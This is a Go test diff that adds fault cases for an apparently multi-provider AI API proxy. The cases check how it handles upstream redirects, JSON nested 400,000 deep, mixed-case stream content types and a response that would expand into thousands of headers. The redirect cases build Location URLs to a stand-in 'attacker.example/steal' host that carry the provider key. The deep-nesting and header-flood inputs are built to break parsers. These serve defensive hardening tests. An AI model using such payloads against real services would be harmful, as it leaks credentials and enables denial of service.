@@ -393,7 +393,66 @@ func faults() []fault {
 				}
 			}},
 	)
+	// Issue 10: redirects, nesting deep enough to trap an unbounded recursion, media types in another case,
+	// and an answer that would become thousands of headers.
+	for _, p := range faultPairs {
+		p := p
+		for _, status := range []int{301, 302, 307, 308} {
+			add(fault{name: p.label() + ": " + strconv.Itoa(status) + " redirect echoing the key", ex: answer(p.ex(false), status,
+				[][2]string{{"content-type", "text/html"}, {"location", "https://attacker.example/steal?k=" + providerKeyOf(p.provider)}},
+				"<a href=\"https://attacker.example/?k="+providerKeyOf(p.provider)+"\">moved</a>"),
+				client: p.client, status: 502, metric: string(translate.ErrUpstreamRedirect), warn: "redirect",
+				check: func(t *testing.T, o *outcome) {
+					checkErrorEnvelope(t, p.client, 502, o.clientBody, string(translate.ErrUpstreamRedirect))
+					if _, has := o.clientHead["location"]; has {
+						t.Errorf("the redirect's Location reached the client: %q", o.clientHead["location"])
+					}
+				}})
+		}
+		add(
+			fault{name: p.label() + ": error JSON nested 400,000 deep", ex: answer(p.ex(false), 500, jsonHeaders,
+				`{"error":`+strings.Repeat(`[`, 400000)+strings.Repeat(`]`, 400000)+`}`), client: p.client, status: 500,
+				check: func(t *testing.T, o *outcome) { checkErrorEnvelope(t, p.client, 500, o.clientBody, "") }},
+			fault{name: p.label() + ": stream ending in an unterminated event nested 400,000 deep", ex: withConfig(answer(p.ex(true), 200, eventHeaders,
+				events(chunkA), "data: "+strings.Repeat(`[`, 400000)), bigEventConfig), client: p.client, status: 200, metric: codeUpstreamStreamCut,
+				check: func(t *testing.T, o *outcome) { checkStreamEnd(t, p.client, o.clientBody, true) }},
+			fault{name: p.label() + ": Text/Event-Stream in another letter case is a stream", ex: answer(p.ex(true), 200,
+				[][2]string{{"content-type", "Text/Event-Stream; Charset=UTF-8"}}, events(chunkA, chunkStop), "data: [DONE]\n\n"),
+				client: p.client, status: 200,
+				check: func(t *testing.T, o *outcome) { checkStreamEnd(t, p.client, o.clientBody, false) }},
+		)
+	}
+	many := ""
+	for i := 0; i < 5001; i++ {
+		many += `"f` + strconv.Itoa(i) + `":"v",`
+	}
+	openaiToEternal := pair{translate.OpenAI, "eternal", pairRequest(translate.OpenAI, "intellect-1")}
+	add(fault{name: "openai client, eternal provider: onchain_data with 5,001 fields", ex: answer(openaiToEternal.ex(false), 200, jsonHeaders,
+		`{"id":"x","object":"chat.completion","created":1,"model":"m","choices":[{"index":0,"message":{"role":"assistant","content":"hi"},"finish_reason":"stop"}],"onchain_data":{`+many+`"last":"v"}}`),
+		client: translate.OpenAI, status: 200, check: func(t *testing.T, o *outcome) {
+			n, size := 0, 0
+			for name, v := range o.clientHead {
+				if strings.HasPrefix(name, "x-onchain-") {
+					n++
+					size += len(name) + len(v)
+				}
+			}
+			if n == 0 || n > 32 || size > 9<<10 {
+				t.Errorf("%d x-onchain-* headers (%d bytes) reached the client, want 1..32", n, size)
+			}
+		}})
 	return rows
+}
+
+// bigEventConfig lets a 400 KB event through, so its content is what gets judged.
+var bigEventConfig = withSetting(hardeningConfig, `"max_event_bytes": 1048576`)
+
+func withConfig(ex exchange, config string) exchange { ex.config = config; return ex }
+
+// providerKeyOf is the provider key hardeningConfig gives a provider.
+func providerKeyOf(provider string) string {
+	return map[string]string{"azure-east": "az-provider-key", "llama": "ai-provider-key", "eternal": "et-provider-key",
+		"openai": "sk-provider-openai"}[provider]
 }
 
 var deepAnswer = `{"usage":` + strings.Repeat(`{"a":`, 10000) + `1` + strings.Repeat(`}`, 10000) + `}`
